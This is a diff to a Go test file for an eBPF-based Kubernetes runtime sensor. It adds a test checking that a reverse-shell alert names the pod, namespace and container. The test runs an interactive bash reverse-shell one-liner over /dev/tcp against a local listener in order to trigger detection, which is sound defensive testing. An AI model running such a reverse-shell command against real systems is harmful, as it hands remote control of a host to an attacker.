@@ -19,6 +19,11 @@ import (
 	"testing"
 	"time"
 
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/kubernetes"
+
+	"redoubt.dev/redoubt/internal/finding"
 	"redoubt.dev/redoubt/internal/runtime/cgroup"
 	"redoubt.dev/redoubt/internal/runtime/event"
 	"redoubt.dev/redoubt/internal/testenv"
@@ -153,14 +158,23 @@ type container struct {
 }
 
 func newContainer(t *testing.T, podUID string) *container {
+	return newContainerID(t, podUID, randomID())
+}
+
+// randomID is a container id as runtimes make them: 64 hex digits.
+func randomID() string {
+	b := make([]byte, 32)
+	rand.Read(b)
+	return hex.EncodeToString(b)
+}
+
+func newContainerID(t *testing.T, podUID, id string) *container {
 	t.Helper()
 	root, err := cgroup.Unified()
 	if err != nil {
 		t.Skipf("no cgroup v2 hierarchy: %v", err)
 	}
-	b := make([]byte, 32)
-	rand.Read(b)
-	c := &container{id: hex.EncodeToString(b), podUID: podUID}
+	c := &container{id: id, podUID: podUID}
 	slice := "kubepods-besteffort-pod" + strings.ReplaceAll(podUID, "-", "_") + ".slice"
 	podDir := filepath.Join(root, "kubepods.slice", "kubepods-besteffort.slice", slice)
 	c.dir = filepath.Join(podDir, "cri-containerd-"+c.id+".scope")
@@ -325,10 +339,10 @@ func TestBenignProcessesDoNotFire(t *testing.T) {
 	port := l.Addr().(*net.TCPAddr).Port
 	file := filepath.Join(t.TempDir(), "out")
 	cases := map[string][]string{
-		"sh redirecting to a file":     {"/bin/sh", "-c", "echo hi > " + file + " 2>&1; cat " + file + " >/dev/null"},
-		"a loop of true":               {"/bin/bash", "-c", "for i in $(seq 50); do /bin/true; done"},
-		"a normal connect on fd 3":     {"/bin/bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; exec 3>&-", port)},
-		"pipes between processes":      {"/bin/sh", "-c", "echo x | cat | wc -c >/dev/null"},
+		"sh redirecting to a file":      {"/bin/sh", "-c", "echo hi > " + file + " 2>&1; cat " + file + " >/dev/null"},
+		"a loop of true":                {"/bin/bash", "-c", "for i in $(seq 50); do /bin/true; done"},
+		"a normal connect on fd 3":      {"/bin/bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; exec 3>&-", port)},
+		"pipes between processes":       {"/bin/sh", "-c", "echo x | cat | wc -c >/dev/null"},
 		"stdout duplicated onto stderr": {"/bin/sh", "-c", "exec 2>&1; /bin/true"},
 	}
 	for name, argv := range cases {
@@ -349,4 +363,61 @@ func TestBenignProcessesDoNotFire(t *testing.T) {
 		return r.Kind == "connect" && r.Conn != nil && r.Conn.Remote.Port() == uint16(port) && r.Conn.Established &&
 			r.Origin.PodUID == podUID && r.Origin.ContainerID != ""
 	})
+}
+
+// TestAlertNamesThePod registers the pod in a real API server, as the kubelet would have
+// (scheduled on this node, with the container's id in its status), and checks the sensor,
+// watching that API server, names the pod, namespace and container in the alert.
+func TestAlertNamesThePod(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: loads eBPF programs and creates cgroups")
+	}
+	cluster := testenv.Shared(t)
+	cs, err := kubernetes.NewForConfig(cluster.Admin)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := context.Background()
+	const node = "node-sensor-test"
+	ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "sensor-"}}
+	ns, err = cs.CoreV1().Namespaces().Create(ctx, ns, metav1.CreateOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cs.CoreV1().Namespaces().Delete(context.Background(), ns.Name, metav1.DeleteOptions{}) })
+	pod := &corev1.Pod{
+		ObjectMeta: metav1.ObjectMeta{Name: "web-0", Namespace: ns.Name},
+		Spec:       corev1.PodSpec{NodeName: node, Containers: []corev1.Container{{Name: "app", Image: "registry.invalid/web:1"}}},
+	}
+	pod, err = cs.CoreV1().Pods(ns.Name).Create(ctx, pod, metav1.CreateOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	id := randomID()
+	pod.Status.Phase = corev1.PodRunning
+	pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "app", ContainerID: "containerd://" + id, Ready: true,
+		Image: "registry.invalid/web:1", ImageID: "registry.invalid/web@sha256:" + strings.Repeat("0", 64)}}
+	if _, err := cs.CoreV1().Pods(ns.Name).UpdateStatus(ctx, pod, metav1.UpdateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+
+	out := startAgent(t, Config{Node: node, Kube: cs})
+	c := newContainerID(t, string(pod.UID), id)
+	port, got := shellListener(t, "echo REDOUBT_$((6*7)); exit\n")
+	c.run(t, "/bin/bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
+	if reply := <-got; !strings.Contains(reply, "REDOUBT_42") {
+		t.Fatalf("the reverse shell did not answer (got %q)", reply)
+	}
+	a := out.waitFor(t, "a reverse-shell alert", isReverseShell(c))
+	o := a.Evidence.Origin
+	if o.Pod != "web-0" || o.Namespace != ns.Name || o.Container != "app" || o.WorkloadKind != "Pod" || o.PodUID != string(pod.UID) {
+		t.Errorf("alert origin %+v: want pod web-0 in %s, container app, uid %s", o, ns.Name, pod.UID)
+	}
+	var res finding.Resource
+	if err := json.Unmarshal(a.Resource, &res); err != nil {
+		t.Fatal(err)
+	}
+	if want := ns.Name + "/Pod/web-0[app]"; res.String() != want {
+		t.Errorf("alert resource %s, want %s", res, want)
+	}
 }
